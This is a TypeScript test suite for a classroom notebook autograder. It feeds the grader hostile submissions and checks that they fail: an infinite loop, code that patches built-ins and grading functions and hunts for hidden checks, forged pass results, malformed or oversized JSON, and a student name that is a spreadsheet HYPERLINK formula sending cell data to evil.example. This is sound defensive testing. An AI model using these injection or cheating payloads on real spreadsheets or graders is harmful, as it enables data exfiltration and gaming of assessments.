import { describe, expect } from 'vitest';
import {
  nodeStudentGrader,
  solutions,
  submissionWith,
} from '../../scripts/lesson-runner/grade-in-node';
import { gradeWithTimeouts } from '../../src/lib/grading/grade-queue';
import { parseGradingPack } from '../../src/lib/grading/grading-pack';
import { MAX_SUBMISSION_BYTES, readSubmission } from '../../src/lib/grading/read-submission';
import { gradebookCsv } from '../../src/lib/grading/csv';
import { gradebookRowId, totalPoints, type GradebookRow } from '../../src/lib/grading/gradebook';
import { GradingError } from '../../src/lib/grading/errors';
import type { Submission } from '../../src/lib/grading/types';
import { lessonOne, PACK, PACK_FILE } from '../unit/grading/fixtures';
import { hostile } from './hostile';

const lesson = lessonOne();
const parsed = parseGradingPack(PACK, PACK_FILE, [lesson]);
const pack = parsed.ok ? parsed.pack : null;
const MALLORY = { name: 'Mallory', id: 'm-1' };
const encode = (text: string) => new TextEncoder().encode(text);

/** Grades in a worker thread with a per-cell limit, as the Gradebook page does in a worker. */
const grade = (submission: Submission, stepMs = 4000) =>
  gradeWithTimeouts(() => nodeStudentGrader(lesson, submission, pack), {
    stepMs,
    startMs: 90_000,
  });

const row = (submission: Submission, outcome: GradebookRow['outcome']): GradebookRow => ({
  id: gradebookRowId(lesson.meta.id, submission.student),
  lessonId: lesson.meta.id,
  student: submission.student,
  file: 'f.json',
  importedAt: 0,
  submission,
  hashOk: true,
  outcome,
  gradedAt: 1,
  error: null,
  manual: {},
  updatedAt: 1,
});

describe('grading submissions', () => {
  hostile(
    'grading',
    'a submission whose exercise loops forever: stopped after the time limit, the rest graded',
    { guards: 'availability', timeout: 180_000 },
    async () => {
      const submission = await submissionWith(lesson, MALLORY, {
        ...solutions(lesson),
        'longest-trip': 'const longest = 31;\nwhile (true) {}',
      });
      const outcome = await grade(submission);
      expect(outcome.exercises).toEqual([
        expect.objectContaining({
          exerciseId: 'longest-trip',
          timedOut: true,
          check: {
            pass: false,
            message: expect.stringMatching(/did not finish in the time allowed/),
          },
        }),
        expect.objectContaining({
          exerciseId: 'rush-hour',
          check: expect.objectContaining({ pass: true }),
        }),
      ]);
      expect(totalPoints(row(submission, outcome), lesson)).toBe(1);
    },
  );

  hostile(
    'grading',
    'code that patches lab, expect and the built-ins the checks use, and hunts for the hidden checks',
    { guards: 'security', timeout: 180_000 },
    async () => {
      const cheat = [
        'const longest = 0;',
        // The lesson check compares with Math.max(...), the hidden one calls Number.isInteger.
        // The grading thread's built-ins are frozen, so these throw: caught, the cheat goes on.
        'try { Math.max = () => 0; } catch {}',
        'try { Number.isInteger = () => true; } catch {}',
        'globalThis.expect = () => {};',
        'lab.check = () => ({ pass: true });',
        // Anything reachable that mentions a hidden check, to pass it on to the next cell.
        'const found = Object.getOwnPropertyNames(globalThis).filter((k) => { try { return /hidden-check|longest/.test(String(globalThis[k])); } catch { return false; } });',
        'try { Object.defineProperty(Array.prototype, "every", { value: () => true, writable: true, configurable: true }); } catch {}',
      ].join('\n');
      const submission = await submissionWith(lesson, MALLORY, {
        ...solutions(lesson),
        'longest-trip': cheat,
        'rush-hour':
          "const morning = trips.select('hour', 'minutes').filter((d) => d.hour >= 7 && d.hour <= 9);\n" +
          "const morningMean = morning.rollup({ m: aq.op.mean('minutes') }).get('m', 0);\n" +
          'if (found.length) throw new Error("found " + found.join());',
      });
      const outcome = await grade(submission, 20_000);
      const [longest, rush] = outcome.exercises;
      expect(longest).toMatchObject({ check: { pass: false } });
      // Nothing on the global scope holds a hidden check's source.
      expect(rush?.check.pass).toBe(true);
      expect(rush?.hidden[0]).toMatchObject({ pass: false });
      expect(totalPoints(row(submission, outcome), lesson)).toBe(0);
    },
  );

  hostile(
    'grading',
    'a submission edited to put code in the hidden setup and to say its checks passed',
    { guards: 'security', timeout: 180_000 },
    async () => {
      const starter = await submissionWith(
        lesson,
        MALLORY,
        {},
        {
          cells: [
            { id: 'setup-1', kind: 'code', source: 'globalThis.pwned = true;' },
            {
              id: 'scratch~nowhere~1',
              kind: 'scratch',
              anchor: 'nowhere',
              source: 'const longest = 31;',
            },
          ],
        },
      );
      const edited = {
        ...starter,
        exercises: starter.exercises.map((e) => ({ ...e, check: { pass: true, message: 'ok' } })),
      };
      const outcome = await grade(edited);
      expect(outcome.exercises.map((e) => e.check.pass)).toEqual([false, false]);
      expect(totalPoints(row(edited, outcome), lesson)).toBe(0);
    },
  );

  hostile(
    'grading',
    'a submission that is not JSON, cut short, or not a submission at all',
    { guards: 'clarity' },
    async () => {
      const good = JSON.stringify(await submissionWith(lesson, MALLORY, {}));
      const message = async (text: string | Uint8Array, file = 'ada.submission.json') => {
        const read = await readSubmission(typeof text === 'string' ? encode(text) : text, file);
        return read instanceof GradingError ? `${read.code}: ${read.message}` : 'read';
      };
      expect(await message(good.slice(0, 200))).toMatch(
        /^not-json: ada\.submission\.json: the file is not valid JSON/,
      );
      expect(await message('{"cells": []}', 'notes.json')).toMatch(
        /^not-a-submission: notes\.json: this is not a Labbook submission/,
      );
      expect(await message(Uint8Array.of(0xff, 0xfe, 0x00))).toMatch(/^not-json: .*not UTF-8 text/);
      expect(await message(good.replace('"attempts":0', '"attempts":"many"'))).toMatch(
        /^bad-field: ada\.submission\.json: the field "exercises\[0\]\.attempts" is wrong/,
      );
      expect(await message(good.replace('"formatVersion":1', '"formatVersion":9'))).toMatch(
        /^newer-format: .*Reload this page/,
      );
    },
  );

  hostile(
    'grading',
    'a huge or deeply nested submission file',
    { guards: 'availability' },
    async () => {
      const huge = new Uint8Array(MAX_SUBMISSION_BYTES + 1).fill(0x20);
      const read = await readSubmission(huge, 'big.submission.json');
      expect(read).toBeInstanceOf(GradingError);
      expect((read as GradingError).message).toMatch(
        /^big\.submission\.json: the file is 8\.0 MB; a submission is at most 8 MB/,
      );
      const deep = await readSubmission(
        encode('['.repeat(100_000) + ']'.repeat(100_000)),
        'deep.json',
      );
      expect((deep as GradingError).code).toBe('too-deep');
      expect((deep as GradingError).message).toMatch(
        /^deep\.json: the JSON nests more than 64 levels/,
      );
    },
  );

  hostile(
    'grading',
    'a student name that is a spreadsheet formula, in the LMS CSV',
    { guards: 'security' },
    async () => {
      const submission = await submissionWith(
        lesson,
        { name: '=HYPERLINK("http://evil.example/?"&A1,"Grades")', id: '@cmd' },
        {},
      );
      const csv = gradebookCsv(lesson, submission.lesson.version, [
        row(submission, { exercises: [], cellErrors: [] }),
      ]);
      const line = csv.split('\r\n')[1]!;
      expect(line.startsWith('"\'=HYPERLINK(')).toBe(true);
      expect(line).toContain(",'@cmd,");
      expect(csv.split('\r\n').every((l) => !/^[=+\-@]/.test(l) && !/,[=+\-@]/.test(l))).toBe(true);
    },
  );
});
